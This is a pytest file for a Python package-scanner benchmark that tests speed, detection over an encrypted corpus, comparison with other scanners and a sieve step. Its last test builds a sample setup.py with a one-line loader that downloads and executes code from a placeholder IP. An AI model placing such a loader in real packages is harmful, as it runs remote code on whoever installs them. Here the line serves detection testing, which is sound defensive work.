"""The benches' own arithmetic, and that they run."""

from __future__ import annotations

import io
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pyzipper

_ROOT = Path(__file__).parents[2]


def _sdist(source: str) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for path, text in (("setup.py", source), ("PKG-INFO", "Metadata-Version: 2.1\nName: a\nVersion: 1\n")):
            info = tarfile.TarInfo(f"a-1/{path}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    return stream.getvalue()


def _wheel() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a/__init__.py", "X = 1\n")
        archive.writestr("a-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: a\nVersion: 1\n")
        archive.writestr("a-1.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
        archive.writestr("a-1.dist-info/RECORD", "")
    return stream.getvalue()


def _bench(name: str, *arguments: str | Path) -> str:
    done = subprocess.run(
        [sys.executable, _ROOT / "bench" / name, *arguments], check=True, capture_output=True, text=True
    )
    return done.stdout


def test_the_floor_reads_every_member() -> None:
    """Each byte of each member, of a zip and of a tar, is decompressed and hashed."""
    code = "import sys; from floor import floor; print(floor(sys.stdin.buffer.read()))"
    for data, inside in ((_sdist("x = 1\n"), 6 + 41), (_wheel(), 6 + 41 + 37)):
        done = subprocess.run(
            [sys.executable, "-c", code], input=data, check=True, capture_output=True, cwd=_ROOT / "bench"
        )
        assert int(done.stdout) == inside


def test_speed_prints_a_row_per_artifact(tmp_path: Path) -> None:
    """Each distribution of a folder is timed, and percentiles and totals follow."""
    (tmp_path / "a-1.tar.gz").write_bytes(_sdist("x = 1\n"))
    (tmp_path / "a-1-py3-none-any.whl").write_bytes(_wheel())
    out = _bench("speed.py", tmp_path)
    for part in ("a-1.tar.gz", "a-1-py3-none-any.whl", "p95", "2 artifacts"):
        assert part in out


def test_detection_reads_an_encrypted_zip_in_memory(tmp_path: Path) -> None:
    """A corpus in an AES zip and a folder of honest files give a row each, and every file a line of JSON."""
    with pyzipper.AESZipFile(tmp_path / "bad.zip", "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(b"secret")
        archive.writestr("a/a-1.tar.gz", _sdist("x = 1\n"))
        archive.writestr("b/b-1.tar.gz", b"not an archive")
    good = tmp_path / "good"
    good.mkdir()
    (good / "a-1-py3-none-any.whl").write_bytes(_wheel())
    result = tmp_path / "result.json"
    out = _bench(
        "detection.py",
        *("--malicious", tmp_path / "bad.zip", "--password", "secret", "--benign", good),
        *("--jobs", "1", "--list", "--json", result),
    )
    assert "malicious, all" in out
    assert "benign wheels" in out
    assert "errors and time-outs: 1" in out
    assert result.read_text(encoding="utf-8").count('"verdict"') == 3


def test_others_are_measured_beside_it_and_leave_nothing(tmp_path: Path) -> None:
    """What each costs and whether it gave alarm; one that does not come to its end is counted as that."""
    (tmp_path / "honest").mkdir()
    (tmp_path / "honest" / "a-1.tar.gz").write_bytes(_sdist("x = 1\n"))
    (tmp_path / "guarddog").write_text('#!/bin/sh\necho \'{"risk_score": {"score": 9.1}}\'\n')
    (tmp_path / "hexora").write_text("#!/bin/sh\necho '{broken'\n")
    for name in ("guarddog", "hexora"):
        (tmp_path / name).chmod(0o700)
    out = _bench("beside.py", tmp_path / "honest", "--guarddog", tmp_path / "guarddog", "--hexora", tmp_path / "hexora")
    rows = {line.split()[0]: line.split()[1:] for line in out.split("alarms on")[1].splitlines() if line.strip()}
    assert rows["pratique"] == ["0", "0", "0", "0"]
    assert rows["guarddog"] == ["1", "0", "0", "0"]
    assert rows["hexora"] == ["0", "1", "0", "0"]


def test_the_sieve_is_compared_with_everything_parsed(tmp_path: Path) -> None:
    """What is reported either way is not lost."""
    loader = "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.7/a').read())\n"
    (tmp_path / "a-1.tar.gz").write_bytes(_sdist(loader))
    assert "1 distributions: 0 findings lost by the sieve, 0 verdicts changed" in _bench("sieve.py", tmp_path)
